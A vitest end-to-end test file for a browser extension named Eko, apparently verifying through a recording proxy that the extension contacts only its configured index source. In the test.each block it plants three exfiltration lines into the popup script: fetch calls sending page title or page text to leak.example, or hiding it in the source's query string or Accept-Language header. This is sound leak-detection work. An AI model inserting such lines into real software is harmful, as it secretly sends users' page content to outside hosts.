import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import type { EkoBrowser } from './driver/eko-browser.ts';
import { launchEko } from './driver/launch.ts';
import { startRecordingProxy } from './driver/recording-proxy.ts';
import { type Site, serveSite } from './driver/site.ts';
import { trafficProblems } from './driver/traffic-problems.ts';
import { until } from './driver/until.ts';

const PAGES = [
  '/sample/oppna-licenser.html',
  '/sample/datamangd-badplatser.html',
  '/sample/open-api-en.html',
  '/sample/jaktlicens.html',
  '/empty',
  '/hostile',
  '/restless',
  '/sample/oppna-licenser.html?hemlig=diarienummer-2026-17',
  '/sample/datamangd-badplatser.html#stycke-3',
  '/no-such-page',
];
const INDEX = '/eko/material-index.v1.json';
const PANEL_BUTTON = 'footer button';

const closing: (() => Promise<unknown> | unknown)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0).reverse()) await close();
});

/** Everything a browser sends while a user reads, searches, opens panel and settings, and refreshes. */
export function nothingLeaves(name: EkoBrowser['name']): void {
  const folder = resolve('.output', name === 'firefox' ? 'firefox-mv3' : 'chrome-mv3');

  test('on ten pages nothing is sent but one and the same question to the configured source', async () => {
    const traffic = await useEko(name, folder, PAGES);
    expect(trafficProblems(traffic.requests, traffic)).toEqual([]);
    const asked = traffic.requests.filter(({ host }) => traffic.sources.includes(host));
    expect(asked.length).toBeGreaterThanOrEqual(PAGES.length);
    expect(traffic.seen).toBe(PAGES.length);
  }, 300_000);

  test.each([
    [
      'to a host of its own',
      `fetch('https://leak.example/?' + encodeURIComponent(document.title + Math.random()))`,
      /unknown host: CONNECT leak\.example/,
    ],
    [
      'in the question to the source',
      `fetch('SOURCE?page=' + encodeURIComponent(document.body.innerText.slice(0, 80)), { mode: 'no-cors' })`,
      /asked in \d+ ways/,
    ],
    [
      'in a header of the question to the source',
      `fetch('SOURCE', { mode: 'no-cors', headers: { 'Accept-Language': 'sv-x' + document.body.innerText.length } })`,
      /asked in \d+ ways/,
    ],
  ])(
    'a leak planted %s is found',
    async (_where, leak, found) => {
      const traffic = await useEko(name, folder, PAGES.slice(0, 2), leak);
      expect(trafficProblems(traffic.requests, traffic).join('\n')).toMatch(found);
    },
    120_000,
  );
}

async function useEko(
  name: EkoBrowser['name'],
  folder: string,
  pages: readonly string[],
  leak?: string,
) {
  const [proxy, site, source] = await Promise.all([
    startRecordingProxy(),
    serveSite(),
    serveIndex(),
  ]);
  closing.push(
    () => proxy.close(),
    () => site.close(),
    () => source.close(),
  );
  const extension = leak ? withLeak(folder, leak.replaceAll('SOURCE', source.address)) : folder;
  const eko = await launchEko(name, { extension, proxyPort: proxy.port });
  closing.push(() => eko.close());
  await eko.openOptions();
  await setSources(eko, source.address);
  let seen = 0;
  for (const path of pages) {
    await readAndSearch(eko, site, path);
    await refresh(eko);
    seen += 1;
  }
  return {
    browser: name,
    requests: proxy.requests,
    pages: [new URL(site.a).host, new URL(site.b).host],
    sources: [new URL(source.address).host],
    seen,
  };
}

/** A user on one page: click, read, open the panel, search, close. */
async function readAndSearch(eko: EkoBrowser, site: Site, path: string): Promise<void> {
  await eko.page.bringToFront();
  await eko.page.goto(site.a + path);
  await eko.clickIcon();
  await until('the popup has answered', async () => {
    const text = await eko.popup.text();
    return text.length > 40 && !/Läser sidan/.test(text);
  });
  if (await eko.panel.isOpen()) await eko.closePopup();
  else await eko.popup.click(PANEL_BUTTON);
  await until('the panel is open', () => eko.panel.isOpen());
  await until('the search box is there', () =>
    eko.panel.evaluate<boolean>(`document.querySelector('input[type=search]') !== null`),
  );
  await eko.panel.evaluate(
    `(() => { const box = document.querySelector('input[type=search]'); box.value = 'licens'; box.dispatchEvent(new Event('input', { bubbles: true })); return true; })()`,
  );
  if (await eko.popup.isOpen()) await eko.closePopup();
}

const STORAGE = '(globalThis.browser ?? chrome).storage';

async function setSources(eko: EkoBrowser, address: string): Promise<void> {
  await eko.options.evaluate(
    `${STORAGE}.sync.set({ indexAddress: ${JSON.stringify(address)}, wikiAddress: '' }).then(() => true)`,
  );
}

async function refresh(eko: EkoBrowser): Promise<void> {
  const tried = () =>
    eko.options.evaluate<string>(
      `${STORAGE}.local.get('sourceStates').then(({ sourceStates: s }) => !s || s.refreshingSince ? '' : Object.values(s.byAddress).map((each) => each.triedAt ?? '').sort().at(-1) ?? '')`,
    );
  const before = await until(
    'no refresh is under way',
    async () => (await tried()) || 'never',
  ).then((at) => (at === 'never' ? '' : at));
  await eko.options.click('button[name=refreshNow]:not(:disabled)');
  await until('the source has been asked', async () => (await tried()) > before);
}

/** The packed index under an address of its own; without a tag, so that every question is the same. */
async function serveIndex(): Promise<{ address: string; close: () => Promise<void> }> {
  const index = readFileSync('public/material-index.json');
  const server = http.createServer((_request, response) => {
    response.writeHead(200, {
      'content-type': 'application/json',
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*',
    });
    response.end(index);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return {
    address: `http://127.0.0.1:${(server.address() as AddressInfo).port}${INDEX}`,
    close: () =>
      new Promise((done) => {
        server.closeAllConnections();
        server.close(() => done());
      }),
  };
}

/** The built extension with one line planted at the end of what its popup runs. */
function withLeak(folder: string, leak: string): string {
  const copy = mkdtempSync(join(tmpdir(), 'eko-leak-'));
  closing.push(() => rmSync(copy, { recursive: true, force: true }));
  cpSync(folder, copy, { recursive: true });
  const html = readFileSync(join(copy, 'popup.html'), 'utf8');
  const [, script = ''] = /<script type="module"[^>]* src="\/([^"]+)"/.exec(html) ?? [];
  const code = readFileSync(join(copy, script), 'utf8');
  writeFileSync(join(copy, script), `${code}\n;setTimeout(() => void (${leak}).catch(() => 0));\n`);
  return copy;
}
